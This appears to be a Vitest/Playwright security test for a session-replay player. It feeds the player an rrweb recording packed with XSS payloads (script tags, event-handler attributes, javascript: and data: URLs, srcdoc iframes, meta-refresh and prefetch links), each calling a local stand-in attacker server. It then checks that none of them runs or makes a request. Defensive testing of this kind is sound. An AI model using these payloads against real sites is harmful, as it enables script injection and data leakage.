import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { Browser, Page } from 'playwright-core';
import { eventually, launch, openAt, stageOf } from './browser';
import { recordingOf, SESSION, type TestEntry, type TestPage } from './recording';
import { ReplayServer } from './server';

let browser: Browser;
let page: Page;
let server: ReplayServer;
let outside: Server;
let evil: string;
const calls: string[] = [];

beforeAll(async () => {
  outside = createServer((request, response) => {
    calls.push(request.url ?? '');
    response.end();
  });
  outside.on('connection', () => calls.push('connection'));
  await new Promise<void>((resolve) => outside.listen(0, '127.0.0.1', resolve));
  evil = `http://127.0.0.1:${(outside.address() as AddressInfo).port}`;
  browser = await launch();
  server = await ReplayServer.start(recordingOf([hostilePage()]));
  page = await browser.newPage({ viewport: { width: 1280, height: 800 } });
});
afterAll(async () => {
  await browser?.close();
  await server?.stop();
  outside.close();
});

const RUN = `for (const w of [window, parent, top]) { try { w.pwned = true } catch {} } fetch('EVIL/ran')`;
const run = (): string => RUN.replace('EVIL', evil);

/** Texts that would do harm wherever a text is taken for HTML, a URL or code. */
function payloads(): string[] {
  return [
    `<script>${run()}</script>`, `<img src=x onerror="${run()}">`, `"><svg onload="${run()}">`, `javascript:${run()}`,
    `<iframe srcdoc="<script>${run()}</script>"></iframe>`, `<link rel=prefetch href="${evil}/prefetch">`, `<style>@import '${evil}/css'</style>`,
    `</textarea><script>${run()}</script>`, `data:text/html,<script>${run()}</script>`, `'-alert(1)-'`, `\${${run()}}`, `<base href="${evil}/">`,
    `<meta http-equiv=refresh content="0;url=${evil}/refresh">`, `${evil}/plain`,
  ];
}

let id = 10;
const element = (tagName: string, attributes: object, childNodes: object[] = [], more: object = {}) =>
  ({ type: 2, id: id++, tagName, attributes, childNodes, ...more });
const text = (textContent: string) => ({ type: 3, id: id++, textContent });

function hostileNodes(): object[] {
  const nodes = payloads().flatMap((payload) => [
    element('div', { onclick: payload, onmouseover: payload, style: `background:url(${evil}/style)`, title: payload }, [text(payload)]),
    element('a', { href: payload, ping: `${evil}/ping` }, [text('a')]),
    element('img', { src: payload, srcset: `${evil}/srcset 2x`, onerror: payload }),
    element('iframe', { src: payload, srcdoc: payload, sandbox: 'allow-scripts' }),
    element('script', { src: `${evil}/script` }, [text(run())]), element('SCRIPT', {}, [text(run())]),
    element('script', {}, [text(run())], { isSVG: true }),
    element('object', { data: payload, type: 'text/html' }), element('embed', { src: payload }),
    element('form', { action: payload }, [element('input', { value: payload, autofocus: '', onfocus: payload })]),
    element('video', { src: `${evil}/video`, autoplay: '', poster: `${evil}/poster` }), element('audio', { src: `${evil}/audio`, autoplay: '' }),
    element('svg', { onload: payload }, [element('image', { 'xlink:href': `${evil}/svg` }, [], { isSVG: true })], { isSVG: true }),
    element('textarea', { value: payload }),
  ]);
  const head = ['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'modulepreload', 'prerender', 'icon', 'manifest', 'stylesheet', 'stylesheet preconnect', 'STYLESHEET']
    .flatMap((rel) => [
      element('link', { rel, href: `${evil}/${rel}`, as: 'script' }),
      // An empty sheet leaves rrweb with a link; so does one of two spellings of an attribute.
      element('link', { rel, href: `${evil}/${rel}`, _cssText: '' }),
      element('link', { rel: 'stylesheet', REL: rel, href: `${evil}/${rel}` }),
    ]);
  return [
    ...head, element('base', { href: `${evil}/` }), element('meta', { 'http-equiv': 'refresh', content: `0;url=${evil}/meta` }),
    element('meta', { 'http-equiv': 'x-dns-prefetch-control', content: 'on' }),
    element('style', { _cssText: `@import url(${evil}/import); body{background:url(${evil}/body)} @font-face{font-family:x;src:url(${evil}/font)} *{font-family:x}` }),
    element('x-evil', {}, [], { isCustom: true }), element('bad name', {}), element('constructor', {}, [], { isCustom: true }),
    element('font-face', {}, [], { isCustom: true }), element('div', null as unknown as object), ...nodes,
  ];
}

const rrweb = (at: number, type: number, data: unknown): TestEntry => ({ at, k: 'rrweb', d: { type, data, timestamp: at } });

function hostilePage(): TestPage {
  const nodes = hostileNodes();
  const node = {
    type: 0, id: 1, childNodes: [{ type: 1, id: 2, name: 'html', publicId: '', systemId: '' },
      { type: 2, id: 3, tagName: 'html', attributes: {}, childNodes: [
        { type: 2, id: 4, tagName: 'head', attributes: {}, childNodes: [] },
        { type: 2, id: 5, tagName: 'body', attributes: {}, childNodes: [...nodes, { type: 2, id: 6, tagName: 'p', attributes: {}, childNodes: [{ type: 3, id: 7, textContent: 'still here' }] }] }] }],
  };
  const entries: TestEntry[] = [
    rrweb(0, 4, { href: `${evil}/`, width: 800, height: 600 }), rrweb(1, 2, { node, initialOffset: { left: 0, top: 0 } }),
    ...payloads().flatMap((payload, i) => texts(payload, 10 + i)), ...increments(),
  ];
  const payload = payloads()[0]!;
  return { page: SESSION, url: payload, title: payload, startMs: 0, endMs: 3_000, viewport: { width: 800, height: 600 }, chunks: [{ seq: 0, snapshot: true, entries }] };
}

function texts(payload: string, at: number): TestEntry[] {
  return [
    { at, k: 'page', d: { url: payload, title: payload } }, { at, k: 'click', d: { text: payload, selector: payload } },
    { at, k: 'navigation', d: { url: payload } }, { at, k: 'error', d: { name: payload, message: payload, stack: payload } },
    { at, k: 'console', d: { level: 'error', arguments: [payload, payload] } }, { at, k: 'event', d: { name: payload, properties: { [payload]: payload } } },
    { at, k: 'identify', d: { id: payload, traits: { name: payload } } }, { at, k: 'gap', d: { reason: payload } }, { at, k: payload, d: payload },
  ];
}

/** Changes that bring the same things in later, and events that rrweb itself would stumble over. */
function increments(): TestEntry[] {
  const mutation = (data: object) => rrweb(500, 3, { source: 0, texts: [], attributes: [], removes: [], adds: [], ...data });
  return [
    ...hostileNodes().map((node) => mutation({ adds: [{ parentId: 5, nextId: null, node }] })),
    mutation({ attributes: [{ id: 6, attributes: { onclick: run(), style: { background: `url(${evil}/m)` }, rel: 'preconnect', 'http-equiv': 'refresh', srcdoc: run() } }] }),
    mutation({ adds: [{ parentId: 99999, nextId: 3, node: null }, null] }),
    mutation({ attributes: [null, { id: 6, attributes: null }], texts: [null], removes: [null] }),
    ...[null, 3, 'x', {}, { source: 1 }, { source: 1, positions: [] }, { source: 2, type: 2, id: 6 }, { source: 3, id: -1 }, { source: 5, id: 6, text: {}, isChecked: 3 },
      { source: 8, id: 6, adds: [{ rule: `@import '${evil}/rule'` }] }, { source: 9, id: 6, commands: [{ property: 'drawImage', args: [evil] }] }, { source: 13, id: 6, set: null },
      { source: 14, ranges: [{}] }, { source: 15, id: 5, styles: [{ styleId: 1, rules: [{ rule: `a{background:url(${evil}/a)}` }] }], styleIds: [1] }, { source: '__proto__' }]
      .map((data) => rrweb(900, 3, data)),
    rrweb(901, 2, null), rrweb(902, 2, { node: 3 }), rrweb(903, 4, { width: 'x' }), rrweb(904, 5, { tag: run() }), rrweb(905, 6, { plugin: run() }), rrweb(906, 99, {}),
    mutation({ texts: [{ id: 7, value: 'still played' }] }),
  ];
}

it('nothing in a recording runs, leaves the installation or stops the rest from playing', async () => {
  const alarms: string[] = [];
  page.on('dialog', (dialog) => void dialog.dismiss().then(() => alarms.push('dialog')));
  page.on('popup', () => alarms.push('popup'));
  page.on('framenavigated', (frame) => { if (frame.url().startsWith(evil)) alarms.push(frame.url()); });
  await openAt(page, server.app, 2_000);
  const stage = await stageOf(page);
  const body = await stage.evaluate(() => document.querySelector<HTMLIFrameElement>('.surface.shown:last-of-type iframe')!.contentDocument!.body.textContent);
  expect(body).toContain('still played');
  await eventually(() => page.locator('.rp-line').count()).toBeGreaterThan(100);
  await page.keyboard.press('Home');
  await page.keyboard.press('Space');
  await page.waitForSelector('.rp[data-status="ended"]');
  await page.locator('.rp-timeline').hover();
  for (const frame of page.frames()) {
    expect(await frame.evaluate(() => (window as unknown as { pwned?: boolean }).pwned).catch(() => undefined)).toBeUndefined();
  }
  expect(await page.locator('.rp script, .rp img, .rp a').count()).toBe(0);
  // What rrweb could not apply was told, and nothing was given up for it.
  expect(server.reports.every(({ detail }) => detail.startsWith('an entry was left out'))).toBe(true);
  expect(alarms).toEqual([]);
  expect(calls).toEqual([]);
  expect(server.strays.filter((what) => !what.startsWith('replay'))).toEqual([]);
});

it('links that prefetch are not rebuilt', async () => {
  const stage = await stageOf(page);
  const rels = await stage.evaluate(() => [...document.querySelector<HTMLIFrameElement>('.surface.shown:last-of-type iframe')!.contentDocument!.querySelectorAll('link')].map((link) => link.rel));
  expect([...new Set(rels.filter((rel) => rel !== '').map((rel) => rel.toLowerCase()))]).toEqual(['stylesheet']);
});
